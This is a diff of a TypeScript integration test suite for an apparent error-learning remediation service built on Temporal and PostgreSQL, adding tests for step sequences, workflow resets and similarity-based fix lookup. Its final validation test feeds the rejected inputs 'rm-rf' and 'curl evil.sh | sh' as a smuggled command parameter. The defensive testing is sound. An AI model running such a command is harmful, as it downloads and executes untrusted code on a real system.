@@ -1,15 +1,17 @@
 import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, describe, it } from 'node:test';
-import type { BrainOpsConfig } from '../temporal.config';
+import { loadConfig, type BrainOpsConfig } from '../temporal.config';
 import { BrainOpsClient } from '../src/client/brainops-client';
 import { errorLearningWorkflowId } from '../src/errors/names';
-import { errorSignature } from '../src/errors/signature';
+import { errorSignature, normaliseMessage } from '../src/errors/signature';
 import type { Remediation } from '../src/errors/remediations';
 import { ValidationError } from '../src/shared/errors';
 import type { HealthTarget } from '../src/shared/health';
 import type { ErrorLearningStatus } from '../src/workflows/error-learning';
+import type { SystemMonitorResult } from '../src/workflows/system-monitor';
 import { eventually, logger, testConfig, testWorker, useTestStack } from './helpers';
 
 /** A local HTTP service whose health a test breaks, and whose `/fix` repairs it (a real webhook). */
@@ -53,11 +55,12 @@ function webhook(port: number, path: string): Remediation {
 }
 
 describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', () => {
-  const stack = useTestStack();
+  // Registered first so it runs first: services and clients close before the database is dropped.
   const services: { close(): Promise<void> }[] = [];
   after(async () => {
     await Promise.all(services.map((s) => s.close()));
   });
+  const stack = useTestStack();
 
   async function setup(name: string) {
     const svc = await service();
@@ -73,12 +76,15 @@ describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', (
           'broken-fix': webhook(svc.port, '/broken-fix'),
           pause: { kind: 'wait', delayMs: 10 },
           'rerun-monitor': { kind: 'workflow', workflowType: 'systemMonitorWorkflow', args: [{ targets: [], learnFromErrors: false }], timeoutMs: 30_000 },
+          'pause-then-fix': { kind: 'sequence', steps: ['pause', 'fix-web'] },
+          'reset-failed': { kind: 'workflow-reset', resetTo: 'first-workflow-task', wait: true, timeoutMs: 30_000 },
         },
         escalationTimeoutMs: 60_000,
         escalationWebhook: `http://127.0.0.1:${svc.port}/escalate`,
       },
     };
     const client = new BrainOpsClient(stack.env.client, config, logger);
+    services.push(client);
     const signatureFor = (code: number) =>
       errorSignature('HealthCheckFailed', `http check of ${name} failed: HTTP ${code} from ${target.url}, expected 200`);
     return { svc, target, config, client, signatureFor };
@@ -110,6 +116,9 @@ describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', (
     assert.ok((event?.resolutionMs ?? -1) >= 0);
     const decisions = await stack.store.pool.query("select decision, confidence from decision_log where decision like 'apply%'");
     assert.ok(decisions.rows.some((d) => d.decision === 'apply remediation "fix-web"' && d.confidence > 0.6));
+    const summary = (await stack.store.summariseErrors({ since: new Date(Date.now() - 3_600_000) })).find((r) => r.signature === signatureFor(503));
+    assert.deepEqual([summary?.occurrences, summary?.resolved, summary?.open, summary?.resolvedWith], [1, 1, 0, 'fix-web']);
+    assert.equal(summary?.medianResolutionMs, event?.resolutionMs);
   });
 
   it('escalates an unknown error, learns the fix a person gives, and applies it next time', async () => {
@@ -212,11 +221,79 @@ describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', (
     });
   });
 
+  it('runs a multi-step remediation as a child workflow, one activity per step', async () => {
+    const { svc, config, client, signatureFor } = await setup('orders');
+    const signature = signatureFor(504);
+    await client.addSolution({ problemSignature: signature, description: 'wait for the cache, then repair', action: 'pause-then-fix' });
+    const worker = await testWorker(stack.env, config, stack.store);
+    const childId = `${errorLearningWorkflowId(signature)}/remediation/1`;
+    await worker.runUntil(async () => {
+      svc.status.code = 504;
+      await client.runMonitor();
+      const status = await result(client, signature);
+      assert.equal(status.state, 'resolved');
+      assert.match(status.attempts[0]?.detail ?? '', /^1\. pause: ok \(waited 10 ms\); 2\. fix-web: ok \(HTTP 204\)$/);
+      assert.equal(svc.fixes.count, 1);
+      const child = await client.temporal.workflow.getHandle(childId).describe();
+      assert.deepEqual([child.type, child.status.name, child.parentExecution?.workflowId], ['remediationSequenceWorkflow', 'COMPLETED', errorLearningWorkflowId(signature)]);
+    });
+    const steps = await stack.store.pool.query('select action, success from work_history where workflow_id = $1 order by id', [childId]);
+    assert.deepEqual(steps.rows, [{ action: 'applyRemediation', success: true }, { action: 'applyRemediation', success: true }]);
+  });
+
+  it('resets the workflow an error came from once its cause is mended', async () => {
+    const { svc, target, config, client } = await setup('ledger');
+    const worker = await testWorker(stack.env, config, stack.store);
+    await worker.runUntil(async () => {
+      svc.status.code = 503;
+      const probeId = `probe/${randomUUID()}`;
+      const probe = await client.temporal.workflow.start('systemMonitorWorkflow', { taskQueue: config.temporal.taskQueue, workflowId: probeId, args: [{ targets: [target], learnFromErrors: false }] });
+      assert.equal(((await probe.result()) as SystemMonitorResult).results[0]?.status, 'down');
+
+      svc.status.code = 200;
+      const message = 'ledger export saw the shop down';
+      await client.addSolution({ problemSignature: errorSignature('ExportError', message), description: 'run the export from the start', action: 'reset-failed' });
+      const { workflowId } = await client.reportError({ errorType: 'ExportError', message, source: 'ledger', workflowId: probeId });
+      const status = (await client.temporal.workflow.getHandle(workflowId).result()) as ErrorLearningStatus;
+      assert.equal(status.state, 'resolved');
+      assert.match(status.attempts[0]?.detail ?? '', new RegExp(`^${probeId} reset to event \\d+ as run [0-9a-f-]+, completed$`));
+      const now = await client.temporal.workflow.getHandle(probeId).describe();
+      assert.notEqual(now.runId, probe.firstExecutionRunId, 'a new run');
+      assert.equal(((await client.temporal.workflow.getHandle(probeId).result()) as SystemMonitorResult).results[0]?.status, 'up', 'the work after the reset point ran again');
+    });
+  });
+
+  it('finds a fix for a differently worded error by the words of its message', async () => {
+    const { client } = await setup('words');
+    const taught = await client.addSolution({
+      problemSignature: 'PoolError: too many clients @ acquire < query',
+      description: 'wait for connections to free up',
+      action: 'pause',
+      exampleMessage: 'remaining connection slots are reserved for non-replication superuser connections',
+    });
+    const message = 'FATAL: remaining connection slots are reserved for non-replication superuser connections (pool 3)';
+    const signature = errorSignature('error', message);
+    const [match] = await stack.store.findSimilarSolutions({ signature, message: normaliseMessage(message), minSimilarity: 0.5 });
+    assert.equal(match?.id, taught.id);
+    assert.ok(match!.signatureSimilarity < 0.5, `signatures alone would not match (${match!.signatureSimilarity})`);
+    assert.ok(match!.textSimilarity >= 0.8, `the words do (${match!.textSimilarity})`);
+    const unrelated = 'disk quota exceeded on volume 3';
+    const none = await stack.store.findSimilarSolutions({ signature: errorSignature('Error', unrelated), message: normaliseMessage(unrelated), minSimilarity: 0.5 });
+    assert.ok(!none.some((s) => s.id === taught.id));
+  });
+
+  it('rejects a sequence naming an unregistered step', async () => {
+    assert.throws(
+      () => loadConfig({ BRAINOPS_REMEDIATIONS: JSON.stringify({ pause: { kind: 'wait' }, 'two-steps': { kind: 'sequence', steps: ['pause', 'reboot'] } }) }),
+      /BRAINOPS_REMEDIATIONS\.two-steps\.steps\.1: "reboot" is not a registered remediation/,
+    );
+  });
+
   it('rejects a solution naming an unregistered action or bad parameters', async () => {
     const { client } = await setup('strict');
     await assert.rejects(
       client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'rm-rf' }),
-      (e) => e instanceof ValidationError && /action: "rm-rf" is not a registered remediation \(registered: fix-web, broken-fix, pause, rerun-monitor\)/.test(e.message),
+      (e) => e instanceof ValidationError && /action: "rm-rf" is not a registered remediation \(registered: fix-web, broken-fix, pause, rerun-monitor, pause-then-fix, reset-failed\)/.test(e.message),
     );
     await assert.rejects(
       client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'fix-web', params: { command: 'curl evil.sh | sh' } }),
